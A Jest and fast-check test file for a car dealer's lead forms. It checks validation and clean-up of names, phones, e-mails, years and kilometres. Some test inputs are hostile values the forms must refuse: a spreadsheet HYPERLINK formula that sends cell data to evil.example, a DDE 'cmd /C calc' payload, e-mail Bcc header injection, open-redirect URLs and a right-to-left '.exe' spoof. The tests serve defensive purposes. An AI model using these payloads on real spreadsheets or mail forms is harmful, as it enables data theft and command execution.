import fc from 'fast-check';

import { createLeadBody } from './contract';
import { contactForm } from './contact';
import {
  getControlAttributes,
  getPrivateFieldNames,
  limitJoinedTexts,
  type Field,
  type Form,
  type FormWithLead,
} from './form';
import { orderForm } from './order';
import { proposalForm } from './proposal';
import { createFormCheck, createFormSchema, getFieldRule } from './schema';
import { sellForm } from './sell/form';
import { tradeForm } from './trade';

const proposalSchema = createFormSchema(proposalForm);
const orderSchema = createFormSchema(orderForm);

const ANA_CONTACT = { name: ' Ana ', phone: '+5511999990000', email: 'ana@example.test' };
const VALID_PROPOSAL = { ...ANA_CONTACT, vehicleId: '7' };

const listWrongFields = (value: unknown): unknown[] => {
  const result = proposalSchema.safeParse(value);
  return result.success ? [] : result.error.issues.map(({ path }) => path[0]);
};

describe('a proposal', () => {
  it('needs only name, telephone, e-mail and vehicle', () => {
    expect(createLeadBody(proposalForm.toLead(proposalSchema.parse(VALID_PROPOSAL)))).toEqual({
      nome: 'Ana',
      telefone: '(11) 99999-0000',
      email: 'ana@example.test',
      tipo: 1,
      veiculo_id: 7,
      veiculo: { troca: 0, marca_id: null, modelo_id: null, km: '', detalhe: '' },
      proposta: '',
      status: 0,
    });
  });

  it('includes the fields of the car only with a car to trade', () => {
    const car = { brandId: '3', modelId: '12', km: '58.000 km', detail: 'Único dono' };
    const form = { ...VALID_PROPOSAL, ...car, proposal: ' À vista\nhoje ' };

    expect(
      createLeadBody(proposalForm.toLead(proposalSchema.parse({ ...form, tradeIn: '1' }))),
    ).toMatchObject({
      veiculo: { troca: 1, marca_id: 3, modelo_id: 12, km: '58000', detalhe: 'Único dono' },
      proposta: 'À vista\nhoje',
    });
    expect(
      createLeadBody(proposalForm.toLead(proposalSchema.parse({ ...form, tradeIn: '0' }))),
    ).toMatchObject({
      veiculo: { troca: 0, marca_id: null, modelo_id: null, km: '', detalhe: '' },
    });
  });

  it('accepts a car that is in no list, in words', () => {
    const form = proposalSchema.parse({ ...VALID_PROPOSAL, tradeIn: '1', detail: 'Piccola 2022' });
    expect(createLeadBody(proposalForm.toLead(form))).toMatchObject({
      veiculo: { troca: 1, marca_id: null, modelo_id: null, detalhe: 'Piccola 2022' },
    });
  });

  it('leaves kilometres in words unchanged', () => {
    const form = { ...VALID_PROPOSAL, tradeIn: '1', km: 'uns 60 mil' };
    expect(proposalForm.toLead(proposalSchema.parse(form))).toMatchObject({
      tradeIn: { km: 'uns 60 mil' },
    });
  });

  it.each([
    ['name', 'A'],
    ['name', '  A '],
    ['name', 'A\u0000'],
    ['name', 'a'.repeat(101)],
    ['phone', ''],
    ['phone', '(11) 9999-99'],
    ['phone', '99999-0000'],
    ['email', 'ana'],
    ['email', 'ana@example'],
    ['email', 'ana silva@example.test'],
    ['email', 'ana@exa mple.test'],
    ['vehicleId', ''],
    ['tradeIn', '2'],
    ['tradeIn', true],
    ['km', '1'.repeat(21)],
    ['proposal', 'a'.repeat(4_001)],
    ['source', 'https://example.com/'],
    ['source', '/busca"><b>'],
    ['source', '//example.com'],
    ['source', '/\\example.com'],
  ])('%s: %j is wrong', (field, value) => {
    expect(listWrongFields({ ...VALID_PROPOSAL, [field]: value })).toEqual([field]);
  });

  it('accepts nothing else, and never throws', () => {
    fc.assert(
      fc.property(fc.anything(), (value) => {
        expect(proposalSchema.safeParse(value).success).toBe(false);
      }),
    );
  });

  it('drops unknown fields', () => {
    expect(proposalSchema.parse({ ...VALID_PROPOSAL, admin: '1' })).toEqual(
      proposalSchema.parse(VALID_PROPOSAL),
    );
  });
});

describe('an order', () => {
  it.each([
    ['2024', 'Encomenda: Kaiserstein GLX 2024'],
    ['', 'Encomenda: Kaiserstein GLX'],
    [undefined, 'Encomenda: Kaiserstein GLX'],
  ])('with year %j becomes a contact lead', (year, assunto) => {
    const form = orderSchema.parse({ ...ANA_CONTACT, model: 'Kaiserstein GLX', year });
    expect(createLeadBody(orderForm.toLead(form))).toEqual({
      nome: 'Ana',
      telefone: '(11) 99999-0000',
      email: 'ana@example.test',
      assunto,
      categoria: 4,
    });
  });

  it.each([
    [{ search: 'SUV até R$ 90.000' }, ': SUV até R$ 90.000'],
    [{ search: ' ' }, ''],
  ])('includes the search of the visitor: %j', (typed, search) => {
    const form = orderSchema.parse({ ...ANA_CONTACT, model: 'Kaiserstein GLX', ...typed });
    expect(createLeadBody(orderForm.toLead(form))).toEqual({
      ...{ nome: 'Ana', telefone: '(11) 99999-0000', email: 'ana@example.test' },
      ...{ assunto: `Encomenda: Kaiserstein GLX${search}`, categoria: 4 },
    });
  });

  it.each([
    ['model', ''],
    ['year', '24'],
    ['year', '1850'],
    ['year', 'novo'],
  ])('%s: %j is wrong', (field, value) => {
    const result = orderSchema.safeParse({
      ...ANA_CONTACT,
      model: 'GLX',
      year: '2024',
      [field]: value,
    });
    expect(result.error?.issues.map(({ path }) => path[0])).toContain(field);
  });
});

describe.each([
  ['order', orderForm, { model: 'M'.repeat(40), year: '2024' }, 'search'],
  ['trade', tradeForm, { ownCar: 'Aurora 2019', model: 'Serra', km: '58000' }, 'detail'],
] as const)('the texts of %s', (_name, unlimited, typed, last) => {
  it.each([150, 191, 255, 256, 500])('fit together into %i letters, or are refused', (max) => {
    const form: FormWithLead = limitJoinedTexts<FormWithLead>(unlimited, max);
    const values: Record<string, string> = { ...ANA_CONTACT, ...typed };
    const describe = (text: string) =>
      String(createLeadBody(form.toLead({ ...values, [last]: text }))['assunto']);
    const room = max - describe('x').length + 1;
    expect(describe('x'.repeat(room))).toHaveLength(max);
    for (const [text, wrong] of [
      ['x'.repeat(room), []],
      [`  ${'x'.repeat(room)}\r\n`, []],
      ['x'.repeat(room + 1), [last]],
      ['x'.repeat(1_001), [last]],
      ['', []],
    ] as const) {
      const sent = { ...values, [last]: text };
      expect([text, createFormCheck(form)(sent)]).toEqual([text, wrong]);
      const refused = createFormSchema(form).safeParse(sent).error?.issues ?? [];
      expect([text, [...new Set(refused.map(({ path }) => path[0]))]]).toEqual([text, wrong]);
    }
    expect(form.fields[last]?.hint).toContain(`Até ${max} caracteres`);
  });
});

it('two cars that do not fit are refused at the own car; a year or a name of any other kind is no text', () => {
  const cars = { ownCar: 'x'.repeat(120), model: 'x'.repeat(120) };
  const check = createFormCheck(limitJoinedTexts(tradeForm, 255));
  expect(check({ ...ANA_CONTACT, ...cars })).toEqual(['ownCar']);
  expect(check({ ...ANA_CONTACT, ...cars, ownCar: 'x'.repeat(109) })).toEqual([]);
  const odd = { ...ANA_CONTACT, ...cars, ownCar: 'xx', model: { toString: 1 }, detail: 'x' };
  expect(createFormSchema(tradeForm).safeParse(odd).error?.issues.length).toBe(1);
});

describe('a new required field', () => {
  const line = { kind: 'line', label: 'Cidade', requiredFrom: '2027-01-31' } as const;
  const fields = { ...orderForm.fields, city: line, plan: { ...line, kind: 'year' as const } };
  const form: Form = { ...orderForm, fields };
  const older = { ...ANA_CONTACT, model: 'GLX' };
  const listServerErrors = (values: object) =>
    createFormSchema(form)
      .safeParse(values)
      .error?.issues.map(({ path }) => path[0]) ?? [];

  afterEach(() => jest.useRealTimers());

  it.each([
    ['2027-01-30T23:59:59Z', older, []],
    ['2027-01-30T23:59:59Z', { ...older, city: ' ', plan: '' }, []],
    ['2027-01-30T23:59:59Z', { ...older, plan: 'x' }, ['plan']],
    ['2027-01-31T00:00:00Z', older, ['city', 'plan']],
    ['2030-01-01T00:00:00Z', { ...older, city: '', plan: '2024' }, ['city']],
    ['2030-01-01T00:00:00Z', { ...older, city: 'Campinas', plan: '2024' }, []],
  ])('at %s the server finds %j wrong in %j', (now, values, wrong) => {
    jest.useFakeTimers({ now: new Date(now) });
    expect(listServerErrors(values)).toEqual(wrong);
  });

  it('is required in the browser from its first day on', () => {
    expect(createFormCheck(form)({ ...older, plan: '2024' })).toEqual(['city']);
    expect(getControlAttributes(line)).toMatchObject({ required: true });
  });
});

describe('a trade', () => {
  const tradeSchema = createFormSchema(tradeForm);
  const cars = { ownCar: 'Aurora Serra 2019', model: 'Kaiserstein GLX' };
  const lead = { nome: 'Ana', telefone: '(11) 99999-0000', email: 'ana@example.test' };

  it.each([
    [{}, 'Troca por Kaiserstein GLX: tenho Aurora Serra 2019'],
    [{ year: '2024' }, 'Troca por Kaiserstein GLX 2024: tenho Aurora Serra 2019'],
    [
      { km: '58.000 km', detail: ' Quitado\nAté R$ 90 mil ' },
      'Troca por Kaiserstein GLX: tenho Aurora Serra 2019: KM 58000: Quitado Até R$ 90 mil',
    ],
    [{ km: 'uns 58 mil' }, 'Troca por Kaiserstein GLX: tenho Aurora Serra 2019: KM uns 58 mil'],
  ])('with %j becomes a contact lead that names both cars', (typed, assunto) => {
    const form = tradeSchema.parse({ ...ANA_CONTACT, ...cars, ...typed });
    expect(createLeadBody(tradeForm.toLead(form))).toEqual({ ...lead, categoria: 4, assunto });
  });

  it.each(['ownCar', 'model'])('without %s is refused', (field) => {
    const values = { ...ANA_CONTACT, ...cars, [field]: ' ' };
    expect(tradeSchema.safeParse(values).error?.issues.map(({ path }) => path[0])).toEqual([field]);
    expect(createFormCheck(tradeForm)(values)).toEqual([field]);
  });
});

describe('the years of a car', () => {
  const rule = getFieldRule(sellForm.fields.year);
  it.each([
    ['2022', '2022'],
    ['2022/2023', '2022/2023'],
    ['2022/23', '2022/2023'],
    ['1999-2000', '1999/2000'],
    ['2022 - 2023', '2022/2023'],
    ['2022 2023', '2022/2023'],
    ['20222023', '2022/2023'],
    [' 2022 / 23 ', '2022/2023'],
    ['22/23', '2022/2023'],
    ['22 - 23', '2022/2023'],
    ['22/2023', '2022/2023'],
    ['99/00', '1999/2000'],
    ['1999/00', '1999/2000'],
    ['2022\u2013 2023', '2022/2023'],
    ['2022 \u2014 23', '2022/2023'],
    ['2022\u20112023', '2022/2023'],
    ['2022\u00A0\u2212\u00A02023', '2022/2023'],
    ['\u200E2022/2023\t', '2022/2023'],
    ['２０２２／２３', '2022/2023'],
  ])('"%s" become "%s"', (typed, rewritten) => {
    expect(rule?.safeParse(typed).data).toBe(rewritten);
  });

  it.each([
    ...['22', '2223', '22/3', '2022/3', '2022/2345', '1850/1851', '2022/2023/2024', 'novo'],
    // A month, or years of which no car is.
    ...['03/2019', '12-2022', '05/19', '2019/01', '50/51', '23/22'],
  ])('"%s" are refused', (typed) => {
    expect(rule?.safeParse(typed).success).toBe(false);
  });
});

describe('an offer of a car needs', () => {
  const sellSchema = createFormSchema(sellForm);
  const check = createFormCheck(sellForm);
  const car = { brand: 'Kaiserstein', model: 'GLX 450 d', name: 'Ana' };
  const otherValues = { year: '', mileage: '', price: '', differentials: '' };

  it.each([
    ['a telephone', { phone: '11999990000', email: '' }, []],
    ['an e-mail', { phone: ' ', email: 'ana@example.test' }, []],
    ['both', { phone: '11999990000', email: 'ana@example.test' }, []],
    ['neither', { phone: '', email: ' ' }, ['phone', 'email']],
    ['half an e-mail beside a telephone', { phone: '11999990000', email: 'ana@' }, ['email']],
  ])('%s: browser and server both refuse %j', (_, contactWays, wrong) => {
    const values = { ...car, ...otherValues, ...contactWays };
    expect(check(values)).toEqual(wrong);
    const issues = sellSchema.safeParse(values).error?.issues ?? [];
    expect(issues.map(({ path }) => path[0])).toEqual(wrong);
  });

  it.each([7, null, {}, ['a'], { trim: 1 }])(
    'telephone or e-mail: %j counts as neither',
    (phone) => {
      const issues =
        sellSchema.safeParse({ ...car, ...otherValues, phone, email: '' }).error?.issues ?? [];
      expect(new Set(issues.map(({ path }) => path[0]))).toEqual(new Set(['phone', 'email']));
    },
  );

  it.each([
    ['R$ 1.200,00', undefined, ['lowPrice']],
    ['R$ 1.200,00', '0', ['lowPrice']],
    ['1200', '0', ['lowPrice']],
    ['R$ 6.000,00', '0', ['lowPrice']],
    ['R$ 15.899,00', '0', ['lowPrice']],
    ['R$ 1.200,00', '1', []],
    ['R$ 20.000,00', '0', []],
    ['R$ 120.000,00', '0', []],
    ['', '0', []],
  ])(
    'a price of "%s", confirmed "%s": browser and server both refuse %j',
    (price, lowPrice, wrong) => {
      const values = { ...car, ...otherValues, phone: '11999990000', email: '', price };
      const typed = lowPrice === undefined ? values : { ...values, lowPrice };
      expect(check(typed)).toEqual(wrong);
      const issues = sellSchema.safeParse(typed).error?.issues ?? [];
      expect(issues.map(({ path }) => path[0])).toEqual(wrong);
    },
  );

  it('name, brand and model as well', () => {
    const offerWithoutContact = {
      ...otherValues,
      brand: '',
      model: '',
      name: '',
      phone: '11999990000',
      email: '',
    };
    expect(check(offerWithoutContact)).toEqual(['brand', 'model', 'name']);
  });
});

const parseField = (field: Field, typed: string): string | undefined =>
  getFieldRule(field)?.safeParse(typed).data;

describe('control and invisible characters', () => {
  const name = sellForm.fields.name;
  it.each([
    ['Ana\tSouza', 'Ana Souza'],
    ['Ana\u000BSouza', 'Ana Souza'],
    ['Ana\fSouza', 'Ana Souza'],
    ['Ana\u0085Souza', 'Ana Souza'],
    ['\u0093Ana\u0094', 'Ana'],
    ['Ana\r\nSouza', 'Ana Souza'],
    ['Ana\u0000\u0007\u001F\u007FSouza', 'Ana Souza'],
    ['Ana\u2028Bcc: x', 'Ana Bcc: x'],
    ['Ana\u2029Souza', 'Ana Souza'],
    ['Ana\u3164Souza\u2800', 'Ana Souza'],
    ['\uFEFFA\u200Bn\u2060a\u00AD', 'Ana'],
    ['Ana \u202Egnp.exe', 'Ana gnp.exe'],
    ['\u2066Ana\u2069 \u061CSouza\u200F', 'Ana Souza'],
    ['Ana\u{E0041}\u{1D173}', 'Ana'],
    ['A\u200Dn\u200Da\u200D', 'Ana'],
    ['Ana\uD83D', 'Ana'],
    ['\uDE00An\uD800a 😀', 'Ana 😀'],
    ['Ana 👩\u200D👧', 'Ana 👩\u200D👧'],
    ['Ana 👩🏽\u200D🚀', 'Ana 👩🏽\u200D🚀'],
    ['Ana 🏳\uFE0F\u200D🌈 ❤\uFE0F', 'Ana 🏳\uFE0F\u200D🌈 ❤\uFE0F'],
    ['Zoe\u0308 D\u2019\u00C1vila', 'Zoe\u0308 D\u2019\u00C1vila'],
  ])('in a name: %j is %j', (typed, clean) => {
    expect(parseField(name, typed)).toBe(clean);
  });

  it.each([
    ...['\u200B\u200B', '\u2800\u2800', '\u3164\u3164', '\u115F\u1160', '\uFFA0\uFFA0'],
    ...['\u0301\u0302', '\uFE0F\uFE0F', '\u200D\u200D\u200D', '\u00AD\u2060\u180E', '\uFFFC\uFFFC'],
    ...[
      '\u034F\u17B4\u2062',
      '\t\u0085\u2028',
      '\u00A0\u3000 ',
      'A\u200B\u200B',
      '\u{E0100}\u{E0101}',
      'A\u2800',
      '\uFFA0A',
    ],
  ])('a name of %j has no two letters', (typed) => {
    expect(getFieldRule(name)?.safeParse(typed).success).toBe(false);
  });

  it.each([
    ['uma\u000Bdu\u00ADas', 'uma\nduas'],
    ['uma\fduas\u0085três', 'uma\nduas\ntrês'],
    ['uma\u2028duas\u2029três', 'uma\nduas\ntrês'],
    ['uma\r\nduas\n\ntrês', 'uma\r\nduas\n\ntrês'],
    ['\u0093uma\u0094\tduas\u0000', 'uma duas'],
    ['\u202Euma\u200B', 'uma'],
    ['família 👨\u200D👩\u200D👧', 'família 👨\u200D👩\u200D👧'],
    ['\u2800\n\u3164', ''],
  ])('in a text of several lines: %j is %j', (typed, clean) => {
    expect(parseField(proposalForm.fields.proposal, typed)).toBe(clean);
  });

  it.each(Object.entries(sellForm.fields).filter(([, { kind }]) => kind !== 'photo'))(
    'none is left in the field %s',
    (_, field) => {
      fc.assert(
        fc.property(
          fc.string({ unit: 'binary', maxLength: 20 }),
          fc.stringMatching(/^[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]{0,9}$/u),
          (text, more) => {
            const parsed = parseField(field, text + more + text);
            expect(
              (parsed ?? '').replace(/[\n\r]|\u200D(?=\p{Extended_Pictographic})/gu, ''),
            ).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
          },
        ),
      );
    },
  );

  it('count for the length of a text only where they are many', () => {
    expect(parseField(name, `\u200B${'a'.repeat(100)}\u200B`)).toBe('a'.repeat(100));
    expect(getFieldRule(name)?.safeParse(`Ana${'\u200B'.repeat(400)}`).success).toBe(false);
  });

  it('alone are no way to answer', () => {
    const values = {
      brand: 'Kaiserstein',
      model: 'GLX',
      name: 'Ana',
      phone: '\u200B',
      email: '\u2800',
    };
    expect(createFormCheck(sellForm)(values)).toEqual(expect.arrayContaining(['phone', 'email']));
    const { error } = createFormSchema(sellForm).safeParse(values);
    expect(error?.issues.map(({ path }) => path[0])).toEqual(['phone', 'email']);
  });
});

describe('an e-mail', () => {
  it.each([
    ...[
      '\u200Bana@exemplo.com',
      'ana\u00AD@exemplo.com',
      'ana@exemplo.com\u2060',
      'ana@exemplo.com\u202C',
    ],
    ...[
      'ana@exemplo.com,',
      'ana@exemplo.com;',
      '(ana@exemplo.com)',
      '<ana@exemplo.com>',
      '"ana@exemplo.com"',
    ],
    ...[
      'mailto:ana@exemplo.com',
      'MAILTO:ana@exemplo.com?subject=oi',
      '<mailto:ana@exemplo.com>',
      '“ana@exemplo.com”.',
    ],
    ...[
      "'ana@exemplo.com'",
      '[ana@exemplo.com]',
      ' ana@exemplo.com\t',
      'ana＠exemplo．com',
      'ana@exemplo.com.',
      '\uFEFFana@\u200Dexemplo.com',
    ],
  ])('%j is read as ana@exemplo.com', (typed) => {
    expect(parseField(orderForm.fields.email, typed)).toBe('ana@exemplo.com');
  });

  it.each([
    ...[
      "o'brien+carros@exemplo.com.br",
      'Ana.Souza@EXEMPLO.com',
      'a_b-c=d@x-y.co',
      'josé@exemplo.com.br',
    ],
    ...[
      'ana@olá.com.br',
      'ana@xn--ol-6ia.com.br',
      '7@4x4.io',
      'ana@例え.テスト',
      `${'a'.repeat(64)}@exemplo.com`,
    ],
  ])('%s stays as it is', (typed) => {
    expect(parseField(orderForm.fields.email, typed)).toBe(typed);
  });

  it.each([
    ...[
      'a@-.-',
      'a@-b.com',
      'a@b-.com',
      'a@b..com',
      'a@.com',
      'a..b@c.com',
      '.a@b.com',
      'a.@b.com',
      '@b.com',
      'a@b',
      'a@',
    ],
    ...[
      'a%0abcc:y@b.test',
      'a%b@c.com',
      '"x\\r\\nBcc:y"@b.test',
      '"a b"@c.com',
      'a@b@c.com',
      'a b@c.com',
      'a@b com.br',
    ],
    ...[
      'a,b@c.com',
      'a@b.com,c@d.com',
      'a@b.com;c@d.com',
      'Ana <a@b.com>',
      'a:b@c.com',
      'a\\b@c.com',
      'a@[1.2.3.4]',
      'a@1.2.3.4',
    ],
    ...[
      'a@b_c.com',
      'a@b.com/x',
      'a@b.c0m?x',
      `${'a'.repeat(65)}@b.com`,
      `a@${'b'.repeat(64)}.com`,
      'ana\u0000@b.com',
      'mailto:',
      'a\u2028b@c.com',
    ],
  ])('%j is refused, as mail servers do', (typed) => {
    expect(getFieldRule(orderForm.fields.email)?.safeParse(typed).success).toBe(false);
  });
});

describe('a name in any form', () => {
  const names = [proposalForm, orderForm, tradeForm, sellForm, contactForm].map(
    ({ fields }) => fields.name,
  );

  it.each([
    ...[
      'Voce ganhou https://evil.example/pix',
      'Ana://',
      'hxxp://x',
      'ftp：//x.example',
      'www.evil.example',
      'Ana WWW.x',
      'ｗｗｗ．x.example',
      'www。evil。example',
    ],
    ...[
      '=HYPERLINK("http://evil.example/?"&A1,"ver")',
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+55 11',
      '-1+1',
      ' =1+1',
      '\t=1',
      '\u200B=1',
      '＝1+1',
      '－Ana',
      '﹢1',
      '@ana',
    ],
  ])('is no link and no formula: %j', (typed) => {
    for (const field of names) expect(getFieldRule(field)?.safeParse(typed).success).toBe(false);
  });

  it.each([
    "D'Ávila",
    'José-Maria = Zé',
    'Ana (11) 98765-4321',
    'J. R. Silva',
    'Wwwilma',
    'Ana @ Bastião',
    '李小龙',
    '3M do Brasil',
  ])('%s is one', (typed) => {
    for (const field of names) expect(parseField(field, typed)).toBe(typed);
  });
});

describe('a telephone', () => {
  it.each([
    ['Meu WhatsApp: +55 11 98765-4321', undefined],
    ['+351 912 345 678', undefined],
    ['(11) 3333-4444 ramal 12', undefined],
    ['0800 123 4567', undefined],
    ['+55 (11) 98765-4321', '(11) 98765-4321'],
    ['(20) 98765-4321', '(20) 98765-4321'],
  ])('%s is sent with a proposal as %s, with a message as it is', (typed, sent) => {
    expect(parseField(proposalForm.fields.phone, typed)).toBe(sent);
    expect(parseField(contactForm.fields.phone, typed)).toBe(sent ?? typed);
  });

  it('is not cut by the browser', () => {
    expect(getControlAttributes(contactForm.fields.phone)).not.toHaveProperty('maxLength');
    expect(getControlAttributes(contactForm.fields.name)).toHaveProperty('maxLength', 100);
  });
});

describe('kilometres', () => {
  it.each([
    ['58.000 km', '58000'],
    ['58 000', '58000'],
    ['58000', '58000'],
    ['1.058.000km', '1058000'],
    ['58.000.', '58000'],
    ['31.7', '31.7'],
    ['31,7', '31,7'],
    ['31.70 km', '31.70 km'],
    ['5.8000', '5.8000'],
    ['uns 60 mil', 'uns 60 mil'],
  ])('"%s" are sent as "%s"', (typed, sent) => {
    expect(parseField(sellForm.fields.mileage, typed)).toBe(sent);
  });
});

it('telephone and e-mail are saved in the memory of the page alone', () => {
  expect(getPrivateFieldNames(proposalForm.fields)).toEqual(['phone', 'email']);
});
